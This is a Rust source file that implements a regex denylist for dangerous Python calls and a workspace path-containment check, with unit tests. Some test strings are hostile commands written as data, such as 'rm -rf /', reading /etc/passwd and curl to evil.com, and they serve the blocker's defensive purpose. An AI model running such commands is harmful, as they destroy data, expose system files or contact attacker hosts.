// src/security/policy.rs — Workspace containment and source denylist
//
// This is a fast pre-filter, not an isolation boundary: pattern matching can
// be evaded. The sandbox's timeout and environment scrubbing are what bound
// a running program.

use std::path::{Component, Path, PathBuf};

use regex::{Regex, RegexBuilder};

use crate::infra::errors::SkillforgeError;

/// Capability patterns blocked by default: dynamic evaluation, OS command
/// execution, dynamic import, and file opens for write/append.
pub const DEFAULT_DENIED_PATTERNS: &[&str] = &[
    r"\beval\s*\(",
    r"\bexec\s*\(",
    r"\bos\.system\s*\(",
    r"\bsubprocess\.Popen\s*\(",
    r"\bsubprocess\.call\s*\(",
    r"\b__import__\s*\(",
    r"\bcompile\s*\(",
    r#"\bopen\s*\(.*(['"]w|['"]a)"#,
];

/// Outcome of a policy check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allowed,
    Denied(String),
}

impl Verdict {
    pub fn is_allowed(&self) -> bool {
        matches!(self, Verdict::Allowed)
    }

    /// Convert a denial into a `PolicyViolation` error.
    pub fn into_result(self) -> Result<(), SkillforgeError> {
        match self {
            Verdict::Allowed => Ok(()),
            Verdict::Denied(reason) => Err(SkillforgeError::PolicyViolation { reason }),
        }
    }
}

struct DeniedPattern {
    source: String,
    regex: Regex,
}

/// Validates paths and source text before they reach disk or execution.
pub struct SafetyEnforcer {
    patterns: Vec<DeniedPattern>,
}

impl SafetyEnforcer {
    /// Built-in denylist plus `extra` patterns. Invalid regexes are a config error.
    pub fn new(extra: &[String]) -> Result<Self, SkillforgeError> {
        let mut patterns = Vec::with_capacity(DEFAULT_DENIED_PATTERNS.len() + extra.len());
        let all = DEFAULT_DENIED_PATTERNS
            .iter()
            .copied()
            .chain(extra.iter().map(String::as_str));
        for source in all {
            let regex = RegexBuilder::new(source)
                .case_insensitive(true)
                .build()
                .map_err(|e| {
                    SkillforgeError::Config(format!("invalid denied pattern '{source}': {e}"))
                })?;
            patterns.push(DeniedPattern {
                source: source.to_string(),
                regex,
            });
        }
        Ok(Self { patterns })
    }

    pub fn pattern_count(&self) -> usize {
        self.patterns.len()
    }

    /// Deny text that matches any denylisted capability pattern.
    pub fn check_source(&self, text: &str) -> Verdict {
        match self.patterns.iter().find(|p| p.regex.is_match(text)) {
            Some(p) => Verdict::Denied(format!("dangerous pattern detected: {}", p.source)),
            None => Verdict::Allowed,
        }
    }

    /// Allow only strict descendants of `workspace_root`.
    ///
    /// `..` components and absolute paths outside the root are rejected
    /// lexically. Otherwise the deepest existing ancestor is canonicalized
    /// (resolving symlinks) and the rest re-appended before comparing.
    pub fn check_path(&self, candidate: &Path, workspace_root: &Path) -> Verdict {
        if candidate
            .components()
            .any(|c| matches!(c, Component::ParentDir))
        {
            return Verdict::Denied(format!(
                "path traversal detected: {} contains '..'",
                candidate.display()
            ));
        }

        let root = match std::fs::canonicalize(workspace_root) {
            Ok(r) => r,
            Err(e) => {
                return Verdict::Denied(format!(
                    "workspace root {} is not accessible: {e}",
                    workspace_root.display()
                ))
            }
        };

        let joined = if candidate.is_absolute() {
            if !candidate.starts_with(&root) && !candidate.starts_with(workspace_root) {
                return Verdict::Denied(format!(
                    "absolute path {} is outside the workspace",
                    candidate.display()
                ));
            }
            candidate.to_path_buf()
        } else {
            root.join(candidate)
        };

        let resolved = match resolve_existing_prefix(&joined) {
            Ok(p) => p,
            Err(e) => return Verdict::Denied(format!("invalid path {}: {e}", candidate.display())),
        };

        if resolved != root && resolved.starts_with(&root) {
            Verdict::Allowed
        } else {
            Verdict::Denied(format!(
                "path {} escapes workspace {}",
                candidate.display(),
                root.display()
            ))
        }
    }
}

/// Canonicalize the longest existing prefix of `path` and append the rest.
fn resolve_existing_prefix(path: &Path) -> std::io::Result<PathBuf> {
    let mut existing = path.to_path_buf();
    let mut tail: Vec<std::ffi::OsString> = Vec::new();

    while !existing.exists() {
        match (existing.file_name(), existing.parent()) {
            (Some(name), Some(parent)) => {
                tail.push(name.to_os_string());
                existing = parent.to_path_buf();
            }
            _ => break,
        }
    }

    let mut resolved = std::fs::canonicalize(&existing)?;
    for part in tail.iter().rev() {
        resolved.push(part);
    }
    Ok(resolved)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn enforcer() -> SafetyEnforcer {
        SafetyEnforcer::new(&[]).unwrap()
    }

    #[test]
    fn test_default_pattern_count() {
        assert_eq!(enforcer().pattern_count(), DEFAULT_DENIED_PATTERNS.len());
    }

    #[test]
    fn test_blocks_dangerous_code() {
        let e = enforcer();
        let dangerous = [
            "eval('malicious')",
            "exec('rm -rf /')",
            "os.system('cat /etc/passwd')",
            "subprocess.Popen(['curl', 'evil.com'])",
            "subprocess.call(['ls'])",
            "__import__('os').system('ls')",
            "code = compile(src, 'x', 'exec')",
            "with open('/etc/hosts', 'w') as f:",
            "open(\"log.txt\", \"a\")",
            "EVAL ('x')",
        ];
        for code in dangerous {
            assert!(!e.check_source(code).is_allowed(), "should block: {code}");
        }
    }

    #[test]
    fn test_allows_safe_code() {
        let safe = r#"
def factorial(n):
    if n <= 1:
        return 1
    return n * factorial(n - 1)

with open("data.csv") as f:
    print(f.read())

print(factorial(5))
"#;
        assert_eq!(enforcer().check_source(safe), Verdict::Allowed);
    }

    #[test]
    fn test_word_boundary_avoids_false_positive() {
        // "evaluate(" and "executor(" are not eval/exec calls
        let e = enforcer();
        assert!(e.check_source("result = evaluate(x)").is_allowed());
        assert!(e.check_source("pool = executor(4)").is_allowed());
    }

    #[test]
    fn test_extra_patterns_apply() {
        let e = SafetyEnforcer::new(&[r"\bsocket\.socket\s*\(".to_string()]).unwrap();
        assert!(!e.check_source("s = socket.socket()").is_allowed());
    }

    #[test]
    fn test_invalid_extra_pattern_rejected() {
        let err = SafetyEnforcer::new(&["(unclosed".to_string()]).err().unwrap();
        assert!(matches!(err, SkillforgeError::Config(_)));
    }

    #[test]
    fn test_denial_reason_names_pattern() {
        match enforcer().check_source("eval('1')") {
            Verdict::Denied(reason) => assert!(reason.contains("eval")),
            Verdict::Allowed => panic!("expected denial"),
        }
    }

    #[test]
    fn test_verdict_into_result() {
        assert!(Verdict::Allowed.into_result().is_ok());
        let err = Verdict::Denied("nope".into()).into_result().unwrap_err();
        assert!(matches!(err, SkillforgeError::PolicyViolation { .. }));
    }
}
